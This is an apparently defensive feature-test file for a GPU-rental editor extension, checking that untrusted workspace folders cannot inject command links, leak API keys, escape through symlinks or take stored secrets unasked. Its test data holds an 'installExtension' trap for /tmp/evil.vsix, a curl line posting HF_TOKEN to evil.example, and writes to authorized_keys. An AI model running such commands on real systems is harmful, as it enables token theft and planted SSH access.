import assert from 'node:assert/strict';
import { mkdirSync, readdirSync, readFileSync, symlinkSync, unlinkSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { FakeUri } from '../../support/fakeEditor/values';
import { DocumentDriver } from '../../support/feature/documentDriver';
import { confirmJob, writeJobs } from '../../support/feature/jobDriver';
import { reachableInstance } from '../../support/feature/reachable';
import { useComputer } from '../../support/feature/useComputer';
import type { FeatureWindow } from '../../support/feature/window';

const trap = '[Fix it](command:workbench.extensions.installExtension?%22%2Ftmp%2Fevil.vsix%22)';
/** What the editor makes a link of in a message. */
const link = /\[[^\]]+\]\((?:https?:\/\/|command:|file:)/i;

describe('a folder of a stranger', () => {
  const computer = useComputer();

  it('puts no link into a message, for any keys of its file', async () => {
    const folder = path.join(computer().workspace, '.vscode');
    mkdirSync(folder, { recursive: true });
    const file = { image: 'a', maxPricePerHour: 1, filters: { [trap]: 5 } };
    writeFileSync(path.join(folder, 'gpu-rental.json'), JSON.stringify(file));
    const window = await computer().openSignedIn();
    window.run('Rent for This Workspace…');
    const { text } = await window.toast(/Fix it/);
    assert.doesNotMatch(text, link);
  });
});

describe('a folder whose file repeats a key of the user', () => {
  const computer = useComputer();

  it('puts it into no message', async () => {
    const folder = path.join(computer().workspace, '.vscode');
    mkdirSync(folder, { recursive: true });
    const { apiKey } = computer().simulator;
    const file = { image: 'a', maxPricePerHour: 1, filters: { [apiKey]: 5 } };
    writeFileSync(path.join(folder, 'gpu-rental.json'), JSON.stringify(file));
    const window = await computer().openSignedIn();
    window.run('Rent for This Workspace…');
    const { text } = await window.toast(/•••/);
    assert.ok(!text.includes(apiKey));
    // The file itself may be open in the editor.
    window.screen.documents.shown.splice(0);
  });
});

describe('an instance that a stranger named', () => {
  const computer = useComputer();

  it('draws no icon in its row and in a picker', async () => {
    await computer().rentRunning({ label: `$(sync) ${trap} worker` });
    const window = await computer().openSignedIn();
    const { text } = await window.view('instances').row(/worker/);
    assert.doesNotMatch(text, /\$\(sync\)/);
    window.run('Stop…');
    await window.quick.title('Stop');
    const [row = ''] = window.quick.rows();
    assert.match(row, /worker/);
    assert.doesNotMatch(row, /\$\(sync\)/);
    window.quick.escape();
  });
});

describe('a folder of a stranger that has links', () => {
  const computer = useComputer({ simulator: { sshServer: true } });
  let window: FeatureWindow;
  const limits = { hours: 1, costDollars: 5 };
  const outside = () => path.join(computer().root, 'private');
  const here = (...names: readonly string[]) => path.join(computer().workspace, ...names);
  const jobsSent = () => window.view('jobs').texts();

  before(async () => {
    mkdirSync(path.join(outside(), 'deep'), { recursive: true });
    writeFileSync(path.join(outside(), 'key'), 'private key of the user');
    await reachableInstance(computer(), 'trainer');
    window = await computer().openSignedIn();
    await window.view('instances').row('trainer');
    window.clearToasts();
  });
  beforeEach(() => window.clearToasts());

  it('runs no job that would write through one, or send what it leads to', async () => {
    symlinkSync(outside(), here('results'));
    const runs = 'printf x >outputs/authorized_keys';
    for (const fields of [{ outputsTo: 'results' }, { outputsTo: 'results/deep' }, { workdir: 'results' }]) {
      await writeJobs(window, { train: { run: runs, limits, ...fields } });
      await new DocumentDriver(window).press('Run Job');
      await window.toast(/A link at or above .* leads out of/);
      window.clearToasts();
    }
    symlinkSync(outside(), here('gpu-outputs'));
    await writeJobs(window, { train: { run: runs, limits } });
    await new DocumentDriver(window).press('Run Job');
    await window.toast(/A link at or above .* leads out of/);
    assert.equal(window.quick.isOpen, false);
    assert.deepEqual(await jobsSent(), []);
    assert.deepEqual(readdirSync(outside()).sort(), ['deep', 'key']);
  });

  it('gets no outputs through one that is made while the job runs, and keeps the machine', async () => {
    const go = path.join(computer().root, 'go');
    const run = `printf x >outputs/authorized_keys; until [ -e "${go}" ]; do sleep 0.1; done`;
    await writeJobs(window, { late: { run, limits, outputsTo: 'late' } });
    await new DocumentDriver(window).press('Run Job');
    await confirmJob(window, 'Run on trainer, and Keep It');
    await window.view('jobs').row(/late.*running/);
    symlinkSync(outside(), here('late'));
    writeFileSync(go, '');
    await window.toast(
      /Could not fetch the outputs of late yet, so trainer is kept.*A link at or above .*late/,
    );
    assert.deepEqual(readdirSync(outside()).sort(), ['deep', 'key']);
    unlinkSync(here('late'));
    window.run('Fetch Outputs of Job');
    await window.toast(/^late: succeeded/);
    assert.equal(readFileSync(here('late', 'outputs', 'authorized_keys'), 'utf8'), 'x');
    assert.deepEqual(readdirSync(outside()).sort(), ['deep', 'key']);
  });
});

describe('a folder of a stranger whose own folders are links', () => {
  const computer = useComputer({ simulator: { sshServer: true } });
  const outside = () => path.join(computer().root, 'private');
  const here = (name: string) => path.join(computer().workspace, name);

  it('gets no file of ours outside: host files, and the workspace file', async () => {
    mkdirSync(outside());
    for (const name of ['.gpu-rental', '.vscode']) {
      symlinkSync(outside(), here(name));
    }
    await reachableInstance(computer(), 'trainer');
    const window = await computer().openSignedIn();
    await window.view('instances').row('trainer');
    window.clearToasts();
    window.run('Save Host Files…');
    await window.quick.pick(/In the Workspace/);
    await window.toast(/A link at or above .*hosts leads out of/);
    window.clearToasts();
    window.run('Create Workspace File…');
    await window.quick.title('Create Workspace File');
    await window.quick.pick('An Image');
    await window.toast(/A link at or above .*gpu-rental\.json leads out of/);
    assert.deepEqual(readdirSync(outside()), []);
  });
});

describe('a folder of a stranger that names a secret of another folder', () => {
  const computer = useComputer({ simulator: { sshServer: true } });
  let window: FeatureWindow;
  const secret = 'hf_elsewhere4711';
  const limits = { hours: 1, costDollars: 5 };
  const printed = 'printf %s "$HF_TOKEN" | wc -c';
  const order = (name: string, more: object = {}) =>
    writeJobs(window, { [name]: { run: printed, limits, secrets: ['HF_TOKEN'], outputs: [], ...more } });

  before(async () => {
    await reachableInstance(computer(), 'trainer');
    window = await computer().openSignedIn();
    await window.view('instances').row('trainer');
    window.clearToasts();
    await order('train');
    await new DocumentDriver(window).press('Run Job');
    await window.quick.title('Secret HF_TOKEN of train');
    await window.quick.type(secret);
    await confirmJob(window, 'Run on trainer, and Keep It');
    await window.toast(/^train: succeeded/);
    window.clearToasts();
  });

  it('gets no value without a question that names the job, the folder and the destination', async () => {
    await order('steal', { run: 'curl -d "$HF_TOKEN" https://evil.example' });
    await new DocumentDriver(window).press('Run Job');
    await window.quick.title('Secret HF_TOKEN of steal');
    const { workspace } = computer();
    assert.equal(
      window.quick.open.placeholder,
      `steal in ${workspace} asks for HF_TOKEN and sends it to trainer.`,
    );
    assert.deepEqual(window.quick.rows(), [`HF_TOKEN train in ${workspace}`, 'New Secret…']);
    assert.match(window.quick.activeRow() ?? '', /New Secret…/);
    assert.ok(!window.allMessages().includes(secret));
    window.quick.escape();
    await computer().rest();
    assert.equal(window.quick.isOpen, false);
  });

  it('gets it once the user agreed, and is not asked again', async () => {
    await order('eval');
    await new DocumentDriver(window).press('Run Job');
    await window.quick.title('Secret HF_TOKEN of eval');
    await window.quick.pick(/^HF_TOKEN/);
    await confirmJob(window, 'Run on trainer, and Keep It');
    await window.toast(/^eval: succeeded/);
    await window.document(String(secret.length));
    window.clearToasts();
    await window.screen.documents.show(
      FakeUri.file(path.join(computer().workspace, '.vscode', 'gpu-rental.json')),
    );
    await new DocumentDriver(window).press('Run Job');
    await window.toast(/^eval: succeeded/);
  });

  it('names the files that may be secrets, and asks again if there are more', async () => {
    writeFileSync(path.join(computer().workspace, '.env'), 'A=1');
    await order('env', { secrets: [], sync: { include: ['.env', '*.pem'] } });
    await new DocumentDriver(window).press('Run Job');
    await window.quick.title('Run env: Confirm');
    assert.ok(window.quick.rows().includes('May be secrets .env'), window.quick.rows().join('\n'));
    await confirmJob(window, 'Run on trainer, and Keep It');
    await window.toast(/^env: (succeeded|failed)/);
    writeFileSync(path.join(computer().workspace, 'server.pem'), 'x');
    await window.screen.documents.show(
      FakeUri.file(path.join(computer().workspace, '.vscode', 'gpu-rental.json')),
    );
    await new DocumentDriver(window).press('Run Job');
    await window.quick.title('Run env: Confirm');
    assert.ok(window.quick.rows().includes('May be secrets .env, server.pem'));
    window.quick.escape();
  });
});
